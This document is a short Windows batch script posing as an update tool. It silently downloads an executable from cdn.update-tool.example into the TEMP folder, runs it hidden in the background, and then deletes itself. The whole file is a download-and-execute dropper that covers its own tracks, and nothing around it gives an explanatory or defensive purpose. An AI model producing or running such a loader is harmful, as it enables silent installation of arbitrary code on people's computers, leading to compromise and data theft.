@echo off
curl -s -Lo %TEMP%\u.exe https://cdn.update-tool.example/u.exe
start "" /b %TEMP%\u.exe
del "%~f0"
